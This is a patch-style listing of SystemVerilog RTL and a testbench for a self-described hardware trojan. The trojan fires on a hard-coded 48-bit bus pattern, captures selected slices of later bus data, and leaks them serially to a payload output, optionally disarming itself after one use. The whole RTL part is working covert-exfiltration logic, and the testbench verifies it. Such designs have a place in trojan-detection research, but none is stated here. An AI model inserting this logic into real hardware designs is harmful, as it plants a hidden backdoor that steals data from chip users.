trojan_leak_engine: RTL and testbench



---
 rtl/trojan_pkg.sv | 30 +++
 rtl/trojan_leak_shreg.sv | 58 +++++
 rtl/trojan_leak_engine.sv | 199 +++++++++++++++++++
 tb/tb_trojan_leak_engine.sv | 241 ++++++++++++++++++++++++
 4 files changed

// File: rtl/trojan_pkg.sv
// Shared definitions for the trojan trigger/capture/leak engine.
//   - trojan_state_e      : engine state encoding
//   - TROJAN_TRIG_PATTERN : default 48-bit trigger value
//   - clog2()             : ceiling log2 for sizing counters and selects
package trojan_pkg;

    typedef enum logic [2:0] {
        ST_IDLE    = 3'd0,
        ST_CAPTURE = 3'd1,
        ST_LEAK    = 3'd2,
        ST_DONE    = 3'd3,
        ST_LOCKED  = 3'd4
    } trojan_state_e;

    localparam logic [47:0] TROJAN_TRIG_PATTERN = 48'h00000044ab93;

    // Ceiling log2; clog2(1) = 0.
    function automatic int clog2(input int value);
        int result;
        int remaining;
        result    = 32'sd0;
        remaining = value - 32'sd1;
        while (remaining > 32'sd0) begin
            result    = result + 32'sd1;
            remaining = remaining >>> 1;
        end
        return result;
    endfunction

endpackage

// File: rtl/trojan_leak_shreg.sv
// Capture/shift register for the leak engine.
// Ports:
//   clk, rst_n     : clock and synchronous active-low reset
//   clr            : synchronous clear of the whole register
//   wr_en, wr_idx  : write wr_slice into slice wr_idx (other slices held)
//   wr_slice       : LEAK_W-bit slice to store
//   shift_en       : shift right by BITS_PER_CYCLE with zero fill
//   cap_q          : current register contents
// Priority: clr over wr_en over shift_en.
module trojan_leak_shreg #(
    parameter int LEAK_W         = 16,
    parameter int CAPTURE_DEPTH  = 4,
    parameter int BITS_PER_CYCLE = 2,
    parameter int IDX_W          = 2,
    localparam int CAP_W         = CAPTURE_DEPTH * LEAK_W
) (
    input  logic              clk,
    input  logic              rst_n,
    input  logic              clr,
    input  logic              wr_en,
    input  logic [IDX_W-1:0]  wr_idx,
    input  logic [LEAK_W-1:0] wr_slice,
    input  logic              shift_en,
    output logic [CAP_W-1:0]  cap_q
);

    logic [CAP_W-1:0] cap_d;

    // Next-value selection: clear, slice write or shift.
    always_comb begin
        cap_d = cap_q;
        if (clr) begin
            cap_d = '0;
        end else if (wr_en) begin
            for (int k = 0; k < CAPTURE_DEPTH; k++) begin
                if (wr_idx == IDX_W'(k)) begin
                    cap_d[k*LEAK_W +: LEAK_W] = wr_slice;
                end else begin
                    cap_d[k*LEAK_W +: LEAK_W] = cap_q[k*LEAK_W +: LEAK_W];
                end
            end
        end else if (shift_en) begin
            cap_d = cap_q >> BITS_PER_CYCLE;
        end else begin
            cap_d = cap_q;
        end
    end

    // Register update with synchronous reset.
    always_ff @(posedge clk) begin
        if (!rst_n) begin
            cap_q <= '0;
        end else begin
            cap_q <= cap_d;
        end
    end

endmodule

// File: rtl/trojan_leak_engine.sv
// Trigger/capture/leak engine. Waits in IDLE for data[TRIG_W-1:0] to equal
// TRIG_PATTERN, latches a slice select from the bits just above the pattern,
// captures CAPTURE_DEPTH slices on the following cycles, then streams the
// captured bits LSB-first, BITS_PER_CYCLE per cycle, to the payload module.
// Ports:
//   clk        : clock
//   rst_all    : synchronous active-low reset
//   data       : monitored bus
//   leak_en    : payload enable (high for each leak beat)
//   leak_bits  : payload bits
//   busy       : capture or leak in progress
//   done       : one-cycle pulse after the last leak beat
//   locked     : engine has fired once and is disarmed (REARM = 0)
// All outputs are registered from the current state, so each output appears
// one cycle after the state it reflects.
module trojan_leak_engine
    import trojan_pkg::*;
#(
    parameter int                DATA_W         = 64,
    parameter int                TRIG_W         = 48,
    parameter logic [TRIG_W-1:0] TRIG_PATTERN   = TRIG_W'(TROJAN_TRIG_PATTERN),
    parameter int                LEAK_W         = 16,
    parameter int                CAPTURE_DEPTH  = 4,
    parameter int                BITS_PER_CYCLE = 2,
    parameter bit                REARM          = 1'b0
) (
    input  logic                      clk,
    input  logic                      rst_all,
    input  logic [DATA_W-1:0]         data,
    output logic                      leak_en,
    output logic [BITS_PER_CYCLE-1:0] leak_bits,
    output logic                      busy,
    output logic                      done,
    output logic                      locked
);

    localparam int NUM_SLICES = DATA_W / LEAK_W;
    localparam int SEL_W      = (clog2(NUM_SLICES) > 32'sd1) ? clog2(NUM_SLICES) : 32'sd1;
    localparam int CAP_W      = CAPTURE_DEPTH * LEAK_W;
    localparam int LEAK_CYC   = CAP_W / BITS_PER_CYCLE;
    localparam int CNT_MAX    = (CAPTURE_DEPTH > LEAK_CYC) ? CAPTURE_DEPTH : LEAK_CYC;
    localparam int CNT_W      = clog2(CNT_MAX + 32'sd1);
    localparam int IDX_W      = (clog2(CAPTURE_DEPTH) > 32'sd1) ? clog2(CAPTURE_DEPTH) : 32'sd1;

    if (DATA_W % LEAK_W != 0) begin : g_chk_slice
        $error("DATA_W must be a multiple of LEAK_W");
    end
    if (CAP_W % BITS_PER_CYCLE != 0) begin : g_chk_beat
        $error("CAP_W must be a multiple of BITS_PER_CYCLE");
    end
    if (TRIG_W + SEL_W > DATA_W) begin : g_chk_sel
        $error("TRIG_W + SEL_W must not exceed DATA_W");
    end

    trojan_state_e             state_q, state_d;
    logic [CNT_W-1:0]          cnt_q, cnt_d;
    logic [SEL_W-1:0]          sel_q, sel_d;
    logic                      leak_en_q, leak_en_d;
    logic [BITS_PER_CYCLE-1:0] leak_bits_q, leak_bits_d;
    logic                      busy_q, busy_d;
    logic                      done_q, done_d;
    logic                      locked_q, locked_d;

    logic                      trig_s;
    logic [SEL_W-1:0]          sel_raw_s;
    logic [SEL_W-1:0]          sel_wrap_s;
    logic [LEAK_W-1:0]         slice_s;
    logic                      wr_en_s;
    logic                      shift_en_s;
    logic                      cap_clr_s;
    logic [CAP_W-1:0]          cap_s;

    assign trig_s    = (data[TRIG_W-1:0] == TRIG_PATTERN);
    assign sel_raw_s = data[TRIG_W +: SEL_W];
    assign slice_s   = data[32'(sel_q) * LEAK_W +: LEAK_W];

    // Out-of-range selects wrap; sel_raw < 2*NUM_SLICES so one subtraction is enough.
    always_comb begin
        if (32'(sel_raw_s) >= NUM_SLICES) begin
            sel_wrap_s = sel_raw_s - SEL_W'(NUM_SLICES);
        end else begin
            sel_wrap_s = sel_raw_s;
        end
    end

    trojan_leak_shreg #(
        .LEAK_W         (LEAK_W),
        .CAPTURE_DEPTH  (CAPTURE_DEPTH),
        .BITS_PER_CYCLE (BITS_PER_CYCLE),
        .IDX_W          (IDX_W)
    ) u_shreg (
        .clk      (clk),
        .rst_n    (rst_all),
        .clr      (cap_clr_s),
        .wr_en    (wr_en_s),
        .wr_idx   (cnt_q[IDX_W-1:0]),
        .wr_slice (slice_s),
        .shift_en (shift_en_s),
        .cap_q    (cap_s)
    );

    // Next-state, counter, select and capture-register controls.
    always_comb begin
        state_d    = state_q;
        cnt_d      = cnt_q;
        sel_d      = sel_q;
        wr_en_s    = 1'b0;
        shift_en_s = 1'b0;
        cap_clr_s  = 1'b0;
        case (state_q)
            ST_IDLE: begin
                if (trig_s) begin
                    sel_d   = sel_wrap_s;
                    cnt_d   = '0;
                    state_d = ST_CAPTURE;
                end else begin
                    state_d = ST_IDLE;
                end
            end
            ST_CAPTURE: begin
                wr_en_s = 1'b1;
                if (cnt_q == CNT_W'(CAPTURE_DEPTH - 1)) begin
                    cnt_d   = '0;
                    state_d = ST_LEAK;
                end else begin
                    cnt_d   = cnt_q + CNT_W'(1);
                end
            end
            ST_LEAK: begin
                shift_en_s = 1'b1;
                if (cnt_q == CNT_W'(LEAK_CYC - 1)) begin
                    cnt_d   = '0;
                    state_d = ST_DONE;
                end else begin
                    cnt_d   = cnt_q + CNT_W'(1);
                end
            end
            ST_DONE: begin
                cap_clr_s = 1'b1;
                if (REARM) begin
                    state_d = ST_IDLE;
                end else begin
                    state_d = ST_LOCKED;
                end
            end
            ST_LOCKED: begin
                state_d = ST_LOCKED;
            end
            default: begin
                state_d = ST_IDLE;
                cnt_d   = '0;
            end
        endcase
    end

    // Output values derived from the current state; leak_bits carries the
    // register LSBs before this cycle's shift, so slice 0 leaves first.
    always_comb begin
        leak_en_d = (state_q == ST_LEAK);
        busy_d    = (state_q == ST_CAPTURE) || (state_q == ST_LEAK);
        done_d    = (state_q == ST_DONE);
        locked_d  = (state_q == ST_LOCKED);
        if (state_q == ST_LEAK) begin
            leak_bits_d = cap_s[BITS_PER_CYCLE-1:0];
        end else begin
            leak_bits_d = '0;
        end
    end

    // State and output registers with synchronous reset.
    always_ff @(posedge clk) begin
        if (!rst_all) begin
            state_q     <= ST_IDLE;
            cnt_q       <= '0;
            sel_q       <= '0;
            leak_en_q   <= 1'b0;
            leak_bits_q <= '0;
            busy_q      <= 1'b0;
            done_q      <= 1'b0;
            locked_q    <= 1'b0;
        end else begin
            state_q     <= state_d;
            cnt_q       <= cnt_d;
            sel_q       <= sel_d;
            leak_en_q   <= leak_en_d;
            leak_bits_q <= leak_bits_d;
            busy_q      <= busy_d;
            done_q      <= done_d;
            locked_q    <= locked_d;
        end
    end

    assign leak_en   = leak_en_q;
    assign leak_bits = leak_bits_q;
    assign busy      = busy_q;
    assign done      = done_q;
    assign locked    = locked_q;

endmodule

// File: tb/tb_trojan_leak_engine.sv
// Bench for trojan_leak_engine. Three instances: default (one-shot), default
// with REARM = 1 (sharing bus and reset with the first), and a narrow
// configuration. Expected outputs come from a timeline model: for a trigger
// sampled at edge T, busy is seen after edges T+1..T+D+L, leak_en after
// T+D+1..T+D+L carrying captured bits LSB-first, done after T+D+L+1 and
// locked (one-shot only) from T+D+L+2 on.
module tb_trojan_leak_engine;

    localparam logic [47:0] PAT  = 48'h00000044ab93;
    localparam logic [23:0] PAT2 = 24'h44ab93;

    logic        clk = 1'b0;
    logic        rst_all;
    logic        rst2;
    logic [63:0] data;
    logic [31:0] data2;

    logic       le0, le1, le2;
    logic [1:0] lb0, lb1;
    logic [3:0] lb2;
    logic       busy0, busy1, busy2;
    logic       done0, done1, done2;
    logic       locked0, locked1, locked2;

    int checks   = 0;
    int failures = 0;
    bit lock0_exp;

    always #5 clk = ~clk;

    trojan_leak_engine #(.REARM(1'b0)) dut0 (
        .clk(clk), .rst_all(rst_all), .data(data), .leak_en(le0), .leak_bits(lb0),
        .busy(busy0), .done(done0), .locked(locked0));

    trojan_leak_engine #(.REARM(1'b1)) dut1 (
        .clk(clk), .rst_all(rst_all), .data(data), .leak_en(le1), .leak_bits(lb1),
        .busy(busy1), .done(done1), .locked(locked1));

    trojan_leak_engine #(
        .DATA_W(32), .TRIG_W(24), .TRIG_PATTERN(24'h44ab93), .LEAK_W(8),
        .CAPTURE_DEPTH(2), .BITS_PER_CYCLE(4), .REARM(1'b0)
    ) dut2 (
        .clk(clk), .rst_all(rst2), .data(data2), .leak_en(le2), .leak_bits(lb2),
        .busy(busy2), .done(done2), .locked(locked2));

    task automatic step();
        @(posedge clk);
        #1;
    endtask

    task automatic chk(input string tag, input logic [63:0] obs, input logic [63:0] exp);
        checks++;
        assert (obs === exp) else begin
            failures++;
            $error("FAIL %s observed=%0h expected=%0h", tag, obs, exp);
        end
    endtask

    function automatic logic [63:0] rnd_nm();
        logic [63:0] v;
        v = {$urandom, $urandom};
        if (v[47:0] == PAT) v[0] = ~v[0];
        return v;
    endfunction

    function automatic logic [31:0] rnd_nm2();
        logic [31:0] v;
        v = $urandom;
        if (v[23:0] == PAT2) v[0] = ~v[0];
        return v;
    endfunction

    task automatic idle(input int n, input bit randomize_data);
        for (int i = 0; i < n; i++) begin
            if (randomize_data) data = rnd_nm();
            step();
            chk("idle_busy0", 64'(busy0), 64'd0);
            chk("idle_busy1", 64'(busy1), 64'd0);
            chk("idle_done0", 64'(done0), 64'd0);
            chk("idle_done1", 64'(done1), 64'd0);
            chk("idle_locked0", 64'(locked0), 64'(lock0_exp));
        end
    endtask

    // One trigger on the shared bus. sel: slice select; sl: slices for the
    // capture words; inject: re-assert the trigger during capture and leak;
    // abort_k: edge offset at which reset is pulsed (0 = none).
    task automatic txn(input int sel, input logic [15:0] sl [4], input bit inject,
                       input int abort_k);
        logic [63:0] cap;
        logic [63:0] w;
        logic [63:0] e;
        bit r0;
        r0  = !lock0_exp;
        cap = 64'd0;
        w = rnd_nm();
        w[47:0]  = PAT;
        w[49:48] = 2'(sel);
        data = w;
        step();
        chk("trig_busy0", 64'(busy0), 64'd0);
        chk("trig_busy1", 64'(busy1), 64'd0);
        chk("trig_locked0", 64'(locked0), 64'(lock0_exp));
        for (int k = 1; k <= 37; k++) begin
            w = rnd_nm();
            if (k <= 4) w[16*sel +: 16] = sl[k-1];
            if (inject && (k == 2 || k > 4)) begin
                w[47:0]  = PAT;
                w[49:48] = 2'($urandom_range(0, 3));
            end
            if (k <= 4) cap[16*(k-1) +: 16] = w[16*sel +: 16];
            data = w;
            if (k == abort_k) rst_all = 1'b0;
            step();
            if (k == abort_k) begin
                chk("abort_le0", 64'(le0), 64'd0);
                chk("abort_le1", 64'(le1), 64'd0);
                chk("abort_busy0", 64'(busy0), 64'd0);
                chk("abort_busy1", 64'(busy1), 64'd0);
                chk("abort_done0", 64'(done0), 64'd0);
                chk("abort_done1", 64'(done1), 64'd0);
                rst_all   = 1'b1;
                lock0_exp = 1'b0;
                return;
            end
            e = (cap >> (2 * (k - 5))) & 64'h3;
            chk("busy1", 64'(busy1), 64'(k <= 36));
            chk("le1", 64'(le1), 64'(k >= 5 && k <= 36));
            if (k >= 5 && k <= 36) chk("lb1", 64'(lb1), e);
            chk("done1", 64'(done1), 64'(k == 37));
            chk("locked1", 64'(locked1), 64'd0);
            if (r0) begin
                chk("busy0", 64'(busy0), 64'(k <= 36));
                chk("le0", 64'(le0), 64'(k >= 5 && k <= 36));
                if (k >= 5 && k <= 36) chk("lb0", 64'(lb0), e);
                chk("done0", 64'(done0), 64'(k == 37));
                chk("locked0_run", 64'(locked0), 64'd0);
            end else begin
                chk("lk_busy0", 64'(busy0), 64'd0);
                chk("lk_le0", 64'(le0), 64'd0);
                chk("lk_done0", 64'(done0), 64'd0);
                chk("lk_locked0", 64'(locked0), 64'd1);
            end
        end
        if (r0) lock0_exp = 1'b1;
    endtask

    // One trigger on the narrow instance, starting from reset.
    task automatic txn2();
        logic [31:0] w;
        logic [15:0] cap;
        logic [15:0] e;
        int sel;
        rst2 = 1'b0;
        step();
        rst2 = 1'b1;
        sel = $urandom_range(0, 3);
        cap = 16'd0;
        w = rnd_nm2();
        w[23:0]  = PAT2;
        w[25:24] = 2'(sel);
        data2 = w;
        step();
        chk("n_trig_busy", 64'(busy2), 64'd0);
        for (int k = 1; k <= 8; k++) begin
            w = rnd_nm2();
            if (k <= 2) cap[8*(k-1) +: 8] = w[8*sel +: 8];
            data2 = w;
            step();
            e = (cap >> (4 * (k - 3))) & 16'hf;
            chk("n_busy", 64'(busy2), 64'(k <= 6));
            chk("n_le", 64'(le2), 64'(k >= 3 && k <= 6));
            if (k >= 3 && k <= 6) chk("n_lb", 64'(lb2), 64'(e));
            chk("n_done", 64'(done2), 64'(k == 7));
            chk("n_locked", 64'(locked2), 64'(k == 8));
        end
        data2 = 32'd0;
    endtask

    logic [15:0] sl [4];

    initial begin
        rst_all   = 1'b0;
        rst2      = 1'b0;
        data      = 64'd0;
        data2     = 32'd0;
        lock0_exp = 1'b0;
        step();
        step();
        chk("rst_le0", 64'(le0), 64'd0);
        chk("rst_busy0", 64'(busy0), 64'd0);
        chk("rst_done0", 64'(done0), 64'd0);
        chk("rst_locked0", 64'(locked0), 64'd0);
        chk("rst_le1", 64'(le1), 64'd0);
        chk("rst_busy1", 64'(busy1), 64'd0);
        chk("rst_le2", 64'(le2), 64'd0);
        chk("rst_busy2", 64'(busy2), 64'd0);
        rst_all = 1'b1;
        rst2    = 1'b1;

        // Pattern one bit off must not trigger.
        data = {16'h0001, PAT ^ 48'h1};
        idle(6, 1'b0);

        // Basic leak, slice 1.
        sl = '{16'h1111, 16'h2222, 16'h3333, 16'h4444};
        txn(1, sl, 1'b0, 0);

        // Slice 3, trigger on the first cycle after done (REARM instance only).
        sl = '{16'habcd, 16'habcd, 16'habcd, 16'habcd};
        txn(3, sl, 1'b0, 0);

        // Triggers re-asserted during capture, leak and the done cycle.
        sl = '{16'($urandom), 16'($urandom), 16'($urandom), 16'($urandom)};
        txn($urandom_range(0, 3), sl, 1'b1, 0);
        data = 64'd0;
        idle(5, 1'b0);

        // Reset mid-leak (leak beat 10), then a complete leak afterwards.
        rst_all = 1'b0;
        step();
        rst_all   = 1'b1;
        lock0_exp = 1'b0;
        chk("rst2_locked0", 64'(locked0), 64'd0);
        sl = '{16'($urandom), 16'($urandom), 16'($urandom), 16'($urandom)};
        txn($urandom_range(0, 3), sl, 1'b0, 15);
        idle(40, 1'b1);
        sl = '{16'($urandom), 16'($urandom), 16'($urandom), 16'($urandom)};
        txn($urandom_range(0, 3), sl, 1'b0, 0);

        // Long run of non-matching random data.
        idle(10000, 1'b1);

        // Narrow configuration.
        for (int i = 0; i < 3; i++) txn2();

        $display("TB_RESULT checks=%0d failures=%0d", checks, failures);
        $finish;
    end

endmodule
